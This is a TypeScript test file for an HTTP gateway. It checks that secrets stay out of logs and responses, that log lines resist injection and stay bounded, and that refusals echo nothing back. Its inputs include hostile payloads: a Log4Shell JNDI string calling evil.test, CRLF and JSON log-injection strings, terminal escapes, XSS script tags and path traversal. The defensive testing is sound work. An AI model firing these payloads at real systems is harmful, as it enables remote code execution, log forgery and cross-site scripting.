/**
 * What a request leaves in the log and in responses: no credential, no query, no line of its own, bounded length
 * (CVE-2020-8565, CVE-2021-44228).
 */
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { sendRaw } from '../support/raw-client.ts';
import { bearer, request, startWorld, type World } from './support/attack-suite.ts';
import { known } from './support/sloppy-service.ts';

let world: World;
beforeAll(async () => {
  world = await startWorld();
});
afterAll(() => world.close());

/** Text that must not appear anywhere. */
const secret = 'SeCrEt-0123456789';

const requests: readonly (readonly [name: string, bytes: string])[] = [
  ['a valid bearer', request('GET /private/x', [bearer])],
  ['an invalid bearer', request('GET /private/x', [`Authorization: Bearer ${secret}`])],
  ['a malformed bearer', request('GET /private/x', [`Authorization: Bearer "${secret}"`])],
  ['another scheme', request('GET /private/x', [`Authorization: Basic ${secret}`])],
  [
    'a bearer in two headers',
    request('GET /private/x', [`Authorization: Bearer ${secret}`, `Authorization: Bearer ${secret}`]),
  ],
  ['a key pair', request('GET /private/x', [`Api-Key: ${secret}`, `Api-Secret: ${secret}`])],
  ['half of a key pair', request('GET /private/x', [`Api-Secret: ${secret}`])],
  ['a query', request(`GET /public/x?token=${secret}`)],
  ['the query of a refused request', request(`GET /admin/x?token=${secret}`)],
  ['the query after a refused path', request(`GET /public/%2e%2e/x?token=${secret}`)],
  ['the query of an absolute form', request(`GET http://a.test/x?token=${secret}`)],
  ['a user in the target', request(`GET http://${secret}:${secret}@a.test/x`)],
  ['a cookie', request('GET /admin/x', [`Cookie: session=${secret}`])],
  ['a body', request('POST /admin/x', [`Content-Length: ${secret.length}`], secret)],
  ['a malformed header', request('GET /x', [`Authorization : Bearer ${secret}`])],
  ['a header that is too long', request('GET /x', [`Authorization: Bearer ${secret.repeat(2000)}`])],
  [
    'a trailer',
    request('POST /admin/x', ['Transfer-Encoding: chunked'], `0\r\nAuthorization: Bearer ${secret}\r\n\r\n`),
  ],
  ['a proxy credential', request('GET /admin/x', [`Proxy-Authorization: Basic ${secret}`])],
  ['bytes that are not HTTP', `${secret}\r\n\r\n`],
];

/** Log lines of a request, found by its own marker. */
async function logged(bytes: string): Promise<string> {
  const before = world.gateway.logText().length;
  await sendRaw(world.gateway.port, Buffer.from(bytes, 'latin1'), 'POST').catch(() => null);
  await vi.waitFor(() => expect(world.gateway.logText().slice(before)).toContain('"msg":"request"'));
  return world.gateway.logText().slice(before);
}

test.each(requests)('no secret is logged: %s', async (_, bytes) => {
  const answer = await sendRaw(world.gateway.port, Buffer.from(bytes, 'latin1')).catch(() => null);
  const lines = await logged(bytes);
  for (const text of [secret, known.user.token, known.user.secret]) {
    expect(lines).not.toContain(text);
    expect(`${answer?.rawHeaders.join('\n')}\n${answer?.status === 200 ? '' : answer?.text()}`).not.toContain(text);
  }
});

test('control: what may be logged, such as a path, is found where the secrets are searched', async () => {
  expect(await logged(request(`GET /public/${secret}`))).toContain(secret);
  const answer = await sendRaw(world.gateway.port, request(`GET /public/${secret}`));
  expect(answer.text()).toContain(secret);
});

const injections: readonly (readonly [name: string, bytes: string])[] = [
  ['CR LF escapes in the query', request('GET /public/x?a=%0d%0a{"level":"info"}')],
  ['a host', request('GET /x').replace('a.test', `\${jndi:ldap://evil.test/a}`)],
  ['a host with a quotation mark', request('GET /x').replace('a.test', 'a","level":"fatal')],
  ['a path with JSON escapes', request('GET /public/%22,%22level%22:%22fatal%22')],
  ['a path with a backslash', request('GET /public/\\",\\"level\\":\\"fatal')],
  ['a method', request('G","level":"fatal /x')],
  ['a terminal escape sequence', request('GET /public/%1b[2J')],
  ['a raw escape character', request('GET /public/\x1b[2J')],
  ['a user agent', request('GET /x', ['User-Agent: \x1b]0;evil\x07'])],
  ['a request id', request('GET /x', ['X-Request-Id: a","level":"fatal'])],
  ['a forwarded address', request('GET /x', ['X-Forwarded-For: ","level":"fatal'])],
];

test.each(injections)('one request is one line of plain JSON: %s', async (_, bytes) => {
  const lines = (await logged(bytes)).split('\n').filter((line) => line !== '');
  for (const line of lines) {
    expect(line).toMatch(/^[^\x00-\x1f\x7f]*$/);
    const parsed: { level?: string } = JSON.parse(line);
    expect(['info', 'warn', 'error', 'debug']).toContain(parsed.level);
    expect(line.match(/"level":/g)).toHaveLength(1);
  }
});

test('a line is bounded, however long the request', async () => {
  const lines = await logged(request(`GET /public/${'a'.repeat(7000)}`, [`User-Agent: ${'b'.repeat(7000)}`]));
  for (const line of lines.split('\n')) expect(line.length).toBeLessThan(4096);
});

const echoes = ['<script>alert(1)</script>', 'evil.test', 'X-Injected'];
test.each([
  ['a path', request('GET /public/%2e%2e/<script>alert(1)</script>')],
  ['a host', request('GET /x', []).replace('a.test', 'evil.test:<script>alert(1)</script>')],
  ['escaped CR LF', request('GET /%0d%0aX-Injected:1')],
  ['a method', request('X-Injected /admin/x')],
  ['an origin', request('GET /admin/x', ['Origin: https://evil.test'])],
  ['a request id', request('GET /admin/x', ['X-Request-Id: <script>alert(1)</script>'])],
])('a refusal repeats nothing from the request: %s', async (_, bytes) => {
  const answer = await sendRaw(world.gateway.port, bytes);
  expect(answer.status).toBeGreaterThanOrEqual(400);
  for (const echo of echoes) expect(`${answer.rawHeaders.join('\n')}\n${answer.text()}`).not.toContain(echo);
});
